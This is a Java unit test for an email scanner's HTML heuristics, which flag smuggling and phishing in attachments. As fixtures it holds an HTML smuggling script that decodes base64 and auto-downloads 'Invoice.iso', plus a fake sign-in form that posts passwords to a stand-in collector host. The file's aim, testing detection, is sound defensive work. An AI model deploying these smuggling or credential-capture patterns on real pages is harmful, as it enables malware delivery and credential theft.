package com.postwarden.scan;

import static com.postwarden.scan.HeuristicSamples.mail;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** HTML smuggling and credential forms in HTML attachments. */
class HtmlHeuristicsTest {
    private static final String SMUGGLING = "Heuristic.HTML.Smuggling";
    private static final String CREDENTIAL_FORM = "Heuristic.HTML.CredentialForm";

    @TempDir
    static Path databaseDir;
    @TempDir
    Path temp;

    private static SignatureDatabase database;

    @BeforeAll
    static void load() throws IOException {
        database = HeuristicSamples.eicarOnlyDatabase(databaseDir);
    }

    private ScanReport scanMail(String name, String html) throws IOException {
        return HeuristicSamples.scanMail(HeuristicSamples.engine(database, temp, HeuristicSettings.defaults()),
                mail(name, "text/html", html.getBytes(StandardCharsets.UTF_8)));
    }

    private static ContainerPath attachment(String name) {
        return ContainerPath.of("msg").child(name);
    }

    @Test
    void aPageThatBuildsAndDownloadsAFileFromBase64IsMalicious() throws IOException {
        String html = """
                <html><body><p>Loading your document...</p>
                <script>
                  var data = atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==");
                  var bytes = new Uint8Array(data.length);
                  for (var i = 0; i < data.length; i++) { bytes[i] = data.charCodeAt(i); }
                  var blob = new Blob([bytes], {type: "application/octet-stream"});
                  var link = document.createElement("a");
                  link.href = window.URL.createObjectURL(blob);
                  link.download = "Invoice.iso";
                  document.body.appendChild(link);
                  link.click();
                </script></body></html>
                """;
        ScanReport report = scanMail("invoice.html", html);
        assertThat(report.verdict()).isEqualTo(new Verdict.Infected(SMUGGLING, attachment("invoice.html")));
    }

    @Test
    void aPageSavingABlobForOldInternetExplorerIsSmugglingToo() throws IOException {
        String payload = "QUJD".repeat(100);
        String html = "<html><script>var b = new Blob([base64ToBytes('" + payload + "')]);"
                + "window.navigator.msSaveOrOpenBlob(b, 'doc.js');</script></html>";
        ScanReport report = scanMail("doc.html", html);
        assertThat(report.verdict()).isEqualTo(new Verdict.Infected(SMUGGLING, attachment("doc.html")));
    }

    @Test
    void aLoginFormPostingToAnotherServerIsSuspicious() throws IOException {
        String html = """
                <!DOCTYPE html><html><head><title>Sign in to your account</title></head><body>
                <form method="post" action="https://collector.example.net/gate.php">
                  <input type="email" name="login" placeholder="Email">
                  <input type="password" name="pass" placeholder="Password">
                  <button type="submit">Sign in</button>
                </form></body></html>
                """;
        ScanReport report = scanMail("Secure_Message.html", html);
        assertThat(report.findings()).containsExactly(
                new Verdict.Suspicious(CREDENTIAL_FORM, attachment("Secure_Message.html")));
    }

    @Test
    void aLoginFormPostingToARelativeAddressIsClean() throws IOException {
        String html = """
                <html><body><form method="post" action="/account/login">
                  <input type="text" name="user"><input type="password" name="pass">
                </form></body></html>
                """;
        assertThat(scanMail("saved-page.html", html).findings()).isEmpty();
    }

    @Test
    void aSearchFormPostingToAWebsiteHasNoPasswordAndIsClean() throws IOException {
        String html = "<html><body><form action=\"https://www.example.org/search\"><input type=\"text\" name=\"q\">"
                + "</form></body></html>";
        assertThat(scanMail("newsletter.html", html).findings()).isEmpty();
    }

    @Test
    void anOrdinaryPageWithScriptsIsClean() throws IOException {
        String html = """
                <html><head><script>
                  document.addEventListener("DOMContentLoaded", function () {
                    document.getElementById("year").textContent = new Date().getFullYear();
                  });
                </script></head><body><p>Newsletter &copy; <span id="year"></span></p>
                <a href="https://www.example.org/report.pdf" download>Annual report</a></body></html>
                """;
        ScanReport report = scanMail("newsletter.html", html);
        assertThat(report.verdict()).isEqualTo(Verdict.clean());
        assertThat(report.findings()).isEmpty();
    }
}
